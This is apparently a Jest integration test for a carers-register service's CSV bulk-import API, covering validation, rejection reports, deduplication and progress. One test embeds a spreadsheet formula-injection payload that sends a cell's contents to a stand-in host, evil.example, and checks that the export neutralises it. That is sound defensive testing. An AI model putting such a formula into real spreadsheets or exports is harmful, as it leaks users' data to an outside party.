import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { Topics } from '@carers/contracts';
import { createKafka } from '@carers/platform/messaging';
import { bearer, eventually, ServiceUnderTest, startServiceUnderTest } from '@carers/testing';
import { AppModule } from '../app.module';
import { REGISTRATION } from '../service';

jest.setTimeout(60_000);

const HEADER =
  'external_id,carer_type,forename,surname,date_of_birth,nhs_number,postcode,phone_mobile,gp_practice_code,gp_consent,area_board,provider_code';
const FILE = [
  HEADER,
  'CL-1,Adult,Ann,Import,14/02/1961,943 476 5919,SN15 1ER,07700 900123,J83001,Y,chippenham,carers-together',
  'CL-2,young,Yan,Import,2012-05-01,,SN10 1AA,,,,devizes,downs-carers-trust',
  'CL-3,adult,Bad,Date,31/02/1961,,SN10 1AA,,,,,',
  'CL-4,adult,No,Board,1970-01-01,,SN10 1AA,,,,atlantis,',
  'CL-5,adult,Ann,Import,14/02/1961,,SN15 1ER,,,,,',
  ',adult,No,Id,1970-01-01,,SN10 1AA,,,,,',
  'CL-7,adult,"Smith, Jr",Quoted,1950-06-06,,BA14 8AA,07700 900001,,,,',
].join('\n');

describe('bulk import of a register export', () => {
  let service: ServiceUnderTest;
  let officer: { authorization: string };
  const registered: string[] = [];
  const reader = createKafka('import-test', () => undefined).consumer({ groupId: `import-test-${Date.now()}` });

  beforeAll(async () => {
    service = await startServiceUnderTest(AppModule, REGISTRATION);
    officer = await bearer({ role: 'council-officer', tenant: 'E06000054' });
    await reader.connect();
    await reader.subscribe({ topic: service.prefix + Topics.registrationCarer, fromBeginning: true });
    await reader.run({ eachMessage: async ({ message }) => void registered.push(message.value!.toString()) });
  }, 90_000);
  afterAll(async () => {
    await reader.disconnect();
    await service?.stop();
  }, 30_000);

  async function importFile(file: string, source = 'charitylog') {
    const job = await request(service.url).post('/imports').set(officer).send({ source }).expect(201);
    const done = await request(service.url).put(`/imports/${job.body.id}/file`).set(officer).set('content-type', 'text/csv').send(file);
    return { id: job.body.id as string, done };
  }

  it("reports a refused row's own values as text a spreadsheet shows and never runs, as an attachment (issue 21, finding 12)", async () => {
    const attack = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
    const file = [HEADER, `"${attack.replace(/"/g, '""')}",adult,Bad,Date,31/02/1961,,SN10 1AA,,,,,`].join('\n');
    const { id } = await importFile(file);
    const report = await request(service.url).get(`/imports/${id}/rejections.csv`).set(officer).expect(200);
    expect(report.headers['content-disposition']).toBe('attachment; filename="rejections.csv"');
    const [, row] = parse(report.text);
    expect(row[1]).toBe(`'${attack}`);
  });

  it('imports the good rows, reports the refused ones with reasons, and publishes an event per new carer', async () => {
    const { id, done } = await importFile(FILE);
    expect(done.status).toBe(200);
    expect(done.body).toMatchObject({ status: 'completed', rowsRead: 7, accepted: 3, unchanged: 0, rejected: 4, percent: 100 });
    expect(done.body.rowsPerSecond).toBeGreaterThan(0);

    const report = await request(service.url).get(`/imports/${id}/rejections.csv`).set(officer).expect(200);
    expect(report.headers['content-type']).toContain('text/csv');
    expect(parse(report.text)).toEqual([
      ['row', 'external_id', 'reasons'],
      ['4', 'CL-3', 'dateOfBirth must be a date like 1968-04-02'],
      ['5', 'CL-4', `"atlantis" is not one of this council's area boards`],
      ['6', 'CL-5', 'the same person as row 2'],
      ['7', '', 'external_id is required'],
    ]);

    const list = (await request(service.url).get('/carers?areaBoard=chippenham').set(officer)).body.carers;
    expect(list).toEqual([
      expect.objectContaining({
        givenName: 'Ann',
        dateOfBirth: '1961-02-14',
        nhsNumber: '9434765919',
        phoneNumbers: [{ type: 'mobile', number: '+447700900123' }],
        gpConsent: true,
      }),
    ]);
    await eventually(async () => (registered.length >= 3 ? true : undefined));
    expect(registered.join('\n')).not.toMatch(/Ann|Import|1961-02-14|SN15/);
  });

  it('skips what it already imported when the same file comes again, and still reports the bad rows', async () => {
    const { done } = await importFile(FILE);
    expect(done.body).toMatchObject({ status: 'completed', rowsRead: 7, accepted: 0, unchanged: 3, rejected: 4 });
  });

  it('refuses a file whose header it cannot read, saying which columns are missing', async () => {
    const { id, done } = await importFile('id,name\n1,Ann\n');
    expect(done.status).toBe(422);
    expect(done.body.message).toContain('lacks external_id, carer_type, forename, surname, date_of_birth, postcode');
    expect((await request(service.url).get(`/imports/${id}`).set(officer)).body).toMatchObject({ status: 'failed', accepted: 0 });
  });

  it('shows progress while a large file streams in', async () => {
    const rows = Array.from(
      { length: 3000 },
      (_, i) => `BIG-${i},adult,Big${i},File,${1930 + (i % 60)}-0${1 + (i % 9)}-1${i % 10},,SN10 1AA,,,,,`,
    );
    const job = await request(service.url).post('/imports').set(officer).send({ source: 'mosaic' }).expect(201);
    const upload = request(service.url)
      .put(`/imports/${job.body.id}/file`)
      .set(officer)
      .set('content-type', 'text/csv')
      .send([HEADER, ...rows].join('\n'))
      .then((r) => r);
    const seen: number[] = [];
    let finished = false;
    void upload.then(() => (finished = true));
    while (!finished) {
      seen.push((await request(service.url).get(`/imports/${job.body.id}`).set(officer)).body.rowsRead);
      await new Promise((r) => setTimeout(r, 20));
    }
    expect((await upload).body).toMatchObject({ status: 'completed', accepted: 3000 });
    expect(seen.some((n) => n > 0 && n < 3000)).toBe(true);
  });
});
